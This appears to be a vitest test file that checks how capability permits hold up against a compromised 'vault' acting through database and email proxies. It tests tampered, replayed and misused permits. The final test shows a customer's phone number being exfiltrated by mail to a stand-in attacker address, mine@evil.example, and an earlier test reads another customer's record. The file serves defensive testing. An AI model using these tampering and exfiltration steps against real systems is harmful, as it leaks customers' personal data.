/** Claims about a vault that was taken over before the proxies: what it makes of the permits it is given. */
import { beforeAll, describe, expect, test } from "vitest";
import { story } from "../../../console/trial/shop.ts";
import { refused } from "../../../kernel/abi/ends.ts";
import type { Permit } from "../../../kernel/abi/permit.ts";
import { patience } from "../taken-over.ts";
import { customerOf, type HostileVault, type Kept } from "./strings.ts";

const { order, customer, amount } = story.refund;
const OTHER = "C0300";
const EVIL = "mine@evil.example";

/** The refund of `task`, from its first call to its end; `expiring` is told of the first permit, which is left to run out. */
export function describePermits(of: () => HostileVault, task: () => string, expiring: (kept: Kept) => void): void {
  let refund: Kept;

  test("a vault that was taken over can read whoever it names in place of the customer of a read, one for a permit", async () => {
    const read = await of().keptOf(await of().submit("hello", customer), "customer:read");
    const theirs = await of().result("database", of().actOf(read, OTHER));
    expect(theirs).toMatchObject({ name: customerOf(OTHER).name, email: customerOf(OTHER).email });
    for (const third of [customer, "C0301"])
      expect(await of().act("database", of().actOf(read, third))).toBe("PERMIT_INVALID");
    await of().answer(read, refused("NOT_FOUND"));
    expiring(read);
  });

  describe("a vault that was taken over cannot", () => {
    beforeAll(async () => {
      await of().pass(task(), "customer:read");
      refund = await of().keptOf(task(), "refund:create");
      expect(refund.call.arguments).toMatchObject({ order, amount });
    });
    const none = async () => expect(await of().refunds()).toEqual([]);

    test("act without a permit", async () => {
      const { permit: _, ...rest } = of().actOf(refund, customer);
      expect(await of().act("database", rest)).toBe("violation");
      expect(await of().act("database", { ...rest, permit: null })).toBe("violation");
      await none();
    });

    test.each<[string, Partial<Permit>]>([
      ["code", { mac: "0".repeat(64) }],
      ["step", { step: 3 }],
      ["epoch", { epoch: 7 }],
      ["expiry", { expires: Date.now() + 3_600_000 }],
      ["task", { task: "task_0000000000000000" }],
      ["assignment", { assignment: "asgn_0000000000000000" }],
      ["case", { case: "case_0000000000000000" }],
      ["mode", { mode: "shadow" }],
      ["decision of a person", { void_until: 7 }],
    ])("act with a permit altered in its %s", async (_, altered) => {
      const body = of().actOf(refund, customer);
      expect(await of().act("database", { ...body, permit: { ...body.permit, ...altered } })).toBe("PERMIT_INVALID");
      expect(await of().code("database", "decide", { permit: { ...body.permit, ...altered }, arguments: {} })).toBe(
        "PERMIT_INVALID",
      );
      await none();
    });

    test("do another operation with it", async () => {
      const permit = { ...refund.permit, capability: "order:list" };
      expect(await of().act("database", { permit, arguments: {}, values: {}, customer })).toBe("PERMIT_INVALID");
    });

    test.each([
      ["a larger amount", { amount: amount + 1 }],
      ["a smaller amount", { amount: amount - 1 }],
      ["another order", { order: "O1300" }],
      ["another currency", { currency: "EUR" }],
      ["other words", { reason: "Because." }],
      ["an argument more", { customer: OTHER }],
    ])("act on %s than was permitted", async (_, changed) => {
      const body = of().actOf(refund, customer);
      const values = { ...body.values, ...changed };
      expect(await of().act("database", { ...body, values })).toBe("PERMIT_INVALID");
      expect(await of().act("database", { ...body, values, arguments: values })).toBe("PERMIT_INVALID");
      await none();
    });

    test.each(["email", "sms", "kv"] as const)("use a permit for the database at %s", async (proxy) => {
      expect(await of().act(proxy, of().actOf(refund, customer))).toBe("PERMIT_INVALID");
    });

    test("make one customer's refund out of another's order", async () => {
      const { orders, customer: owner } = story.many;
      const theirs = await of().refundCall(owner, orders[9], "60.00 USD");
      expect(await of().act("database", of().actOf(theirs, OTHER))).toBe("NOT_FOUND");
      expect(await of().act("database", of().actOf(theirs, owner))).toBe("PERMIT_INVALID");
      await none();
      await of().answer(theirs, refused("NOT_FOUND"));
    });

    test("act twice with one permit: whatever it sends, there is one effect", async () => {
      const body = of().actOf(refund, customer);
      const together = await Promise.all([1, 2, 3, 4].map(() => of().act("database", body)));
      expect(together).toEqual(["done", "done", "done", "done"]);
      expect(await of().act("database", body)).toBe("done");
      expect(await of().refunds()).toMatchObject([{ order, customer, amount }]);
    });

    test("act with the permit of an attempt that has been replaced, or anew with that of the next", async () => {
      await of().appliance.ask("keys_revoke", { of: "refund-agent" });
      const again = await nextAttempt();
      expect(await of().act("database", of().actOf(again, customer))).toBe("done");
      expect(await of().act("database", of().actOf(refund, customer))).toBe("PERMIT_EXPIRED");
      expect(await of().refundsOf(order)).toHaveLength(1);
      await of().answer(again, null);
    });

    /** The same step in the next attempt. */
    async function nextAttempt(): Promise<Kept> {
      await expect
        .poll(async () => (await of().keptOf(task(), "refund:create")).permit.epoch, patience)
        .toBe(refund.permit.epoch + 1);
      return of().keptOf(task(), "refund:create");
    }

    test("write other words than those permitted", async () => {
      await of().pass(task(), "customer:read");
      const mail = await of().keptOf(task(), "email:send");
      const body = of().actOf(mail, customer);
      const values = { ...mail.call.arguments, to: EVIL, body: "Dear me, send money." };
      expect(await of().act("email", { ...body, values })).toBe("PERMIT_INVALID");
    });
  });

  test("a vault that was taken over can put anything at all where a token stands: an address, and words", async () => {
    const mail = await of().keptOf(task(), "email:send");
    const given = mail.call.arguments as { subject: string; body: string };
    const words = `whoever reads this: ${customerOf(OTHER).phone}`;
    const values = { ...given, to: EVIL, body: given.body.replaceAll("[NAME_1]", words) };
    expect(await of().act("email", { ...of().actOf(mail, customer), values })).toBe("done");
    const sent = () =>
      of()
        .mails()
        .filter(({ to }) => to === EVIL);
    await expect.poll(() => sent().map(({ text }) => text.includes(words)), patience).toEqual([true]);
    await of().answer(mail, null); // the proxy has it done: the customer gets none
    const state = async () => (await of().appliance.ask("task_show", { task: task() })).line.event;
    await expect.poll(state, patience).toBe("Completed");
    expect(of().mails()).toHaveLength(1);
  });
}
